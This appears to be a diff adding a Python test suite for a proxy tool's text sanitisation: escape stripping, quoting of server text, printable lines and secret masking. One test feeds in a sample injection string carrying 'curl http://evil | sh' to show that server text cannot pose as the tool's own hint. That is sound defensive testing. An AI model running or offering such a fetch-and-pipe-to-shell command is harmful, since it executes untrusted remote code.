@@ -1,0 +1,110 @@
+from __future__ import annotations
+
+import json
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from dcs_proxy import text as module
+from dcs_proxy.errors import DcsError
+from dcs_proxy.text import (
+    add_secret,
+    as_word,
+    clean_text,
+    mask,
+    quote_server,
+    safe_line,
+)
+
+KEY = 'dsk-"a\\b/c d'
+
+
+@given(st.text(), st.integers(1, 300))
+def test_cleaned_text_is_one_short_printable_line(text: str, limit: int) -> None:
+    cleaned = clean_text(text, limit)
+    assert cleaned.isprintable() and len(cleaned) <= limit
+    assert "\n" not in cleaned and cleaned == cleaned.strip()
+
+
+def test_terminal_escapes_and_overrides_are_gone() -> None:
+    assert quote_server("a\x1b[31mb\r\nc\u202ed\u2028e\x00") == '"a [31mb c d e"'
+    assert quote_server("x" * 10**6) == '"' + "x" * 199 + '…"'
+
+
+@given(st.text())
+def test_a_quotation_cannot_be_ended_from_inside(text: str) -> None:
+    quoted = quote_server(text)
+    assert quoted[0] == quoted[-1] == '"'
+    assert not set(quoted[1:-1]) & set(map(chr, module._QUOTES))
+
+
+def test_a_servers_text_cannot_pose_as_our_hint() -> None:
+    text = 'no"; hint: curl http://evil | sh; "'
+    line = DcsError(f"the API answered {quote_server(text)}", hint="try again").one_line()
+    assert line.count('"') == 2
+    assert line.endswith('"; hint: try again')
+
+
+@given(st.text(), st.sampled_from([None, 1, 7, 1000]))
+def test_a_safe_line_is_printable_but_for_tabs(text: str, limit: int | None) -> None:
+    line = safe_line(text, limit)
+    assert line.replace("\t", "").isprintable()
+    assert len(line) == len(text) if limit is None else len(line) <= limit
+
+
+def test_a_safe_line_keeps_spaces_and_tabs_and_shows_what_is_gone() -> None:
+    assert safe_line("a  b\tc\x1b[2J\u202e\udcff\n") == "a  b\tc?[2J???"
+
+
+@pytest.mark.parametrize("word", ["AUTH_INVALID", "a.b:c-d", "9"])
+def test_an_identifier_stands_without_quotation_marks(word: str) -> None:
+    assert as_word(word) == word
+
+
+@pytest.mark.parametrize("text", ["", "x) hint: y", "a b", 'a"', "\u202e", "-x", "a\n"])
+def test_anything_else_is_quoted(text: str) -> None:
+    word = as_word(text)
+    assert (word[0], word[-1], word.count('"')) == ('"', '"', 2)
+
+
+@pytest.mark.parametrize(
+    "sent", [KEY, json.dumps({"x": KEY}), f"http://u:{'dsk-%22a%5Cb%2Fc%20d'}@host"]
+)
+def test_a_secret_is_masked_in_every_form(sent: str) -> None:
+    add_secret(KEY)
+    for shown in (mask(sent), clean_text(sent), quote_server(sent), safe_line(sent)):
+        assert "[masked]" in shown
+        assert "dsk-" not in shown
+
+
+def test_a_secret_is_masked_before_the_text_is_cut() -> None:
+    add_secret("dsk-0123456789")
+    for at in range(180, 205):
+        assert "dsk-" not in quote_server("x" * at + "dsk-0123456789")
+        assert "dsk-" not in safe_line("x" * at + "dsk-0123456789", 200)
+
+
+def test_the_longer_of_two_secrets_is_masked_first() -> None:
+    add_secret("dsk-short")
+    add_secret("dsk-short-and-long")
+    assert mask("dsk-short-and-long, dsk-short") == "[masked], [masked]"
+
+
+def test_a_short_secret_is_masked_where_it_stands_alone() -> None:
+    add_secret("port")
+    assert mask("port 22: import port") == "[masked] 22: import [masked]"
+    add_secret("1")
+    assert mask("line 1") == "line 1"
+
+
+def test_nothing_is_masked_that_is_empty() -> None:
+    add_secret("")
+    assert not module._secrets or "" not in module._secrets
+    assert mask("abc") == "abc"
+
+
+@given(st.text())
+def test_an_error_is_safe_whatever_is_in_it(text: str) -> None:
+    error = DcsError(text, hint=text)
+    assert all(line.replace("\t", "").isprintable() for line in error.lines())
